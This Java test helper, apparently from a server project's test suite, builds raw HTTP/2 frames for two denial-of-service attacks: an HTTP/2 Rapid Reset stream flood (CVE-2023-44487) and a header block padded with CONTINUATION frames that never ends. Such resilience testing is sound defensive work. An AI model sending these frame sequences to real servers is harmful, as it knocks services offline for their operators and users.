package org.openscrutiny.chassis.testing;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;

/** Frames of HTTP/2 (RFC 9113) as an attacker sends them, in clear text with prior knowledge. */
final class Http2Frames {

    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int CONTINUATION = 9;
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;

    /** GET / of localhost, mostly by indices of HPACK's static table (RFC 7541, appendix A). */
    private static final byte[] GET = {
        (byte) 0x82, (byte) 0x86, (byte) 0x84, 0x41, 9, 'l', 'o', 'c', 'a', 'l', 'h', 'o', 's', 't'
    };

    private final ByteArrayOutputStream bytes = new ByteArrayOutputStream();

    private Http2Frames() {
        bytes.writeBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        frame(SETTINGS, 0, 0, new byte[0]);
    }

    /** Streams opened and reset at once (CVE-2023-44487). */
    static byte[] rapidReset(int streams) {
        var frames = new Http2Frames();
        for (int i = 0; i < streams; i++) {
            frames.frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, GET);
            frames.frame(RST_STREAM, 0, 2 * i + 1, new byte[] {0, 0, 0, 8});
        }
        return frames.bytes.toByteArray();
    }

    /** One header block that never ends. */
    static byte[] endlessHeaders(int continuations) {
        var frames = new Http2Frames();
        frames.frame(HEADERS, END_STREAM, 1, GET);
        for (int i = 0; i < continuations; i++) {
            frames.frame(CONTINUATION, 0, 1, new byte[] {0, 1, 'a', 1, 'b'});
        }
        return frames.bytes.toByteArray();
    }

    private void frame(int type, int flags, int stream, byte[] payload) {
        bytes.write(payload.length >> 16);
        bytes.write(payload.length >> 8);
        bytes.write(payload.length);
        bytes.write(type);
        bytes.write(flags);
        bytes.write(stream >> 24);
        bytes.write(stream >> 16);
        bytes.write(stream >> 8);
        bytes.write(stream);
        bytes.writeBytes(payload);
    }
}
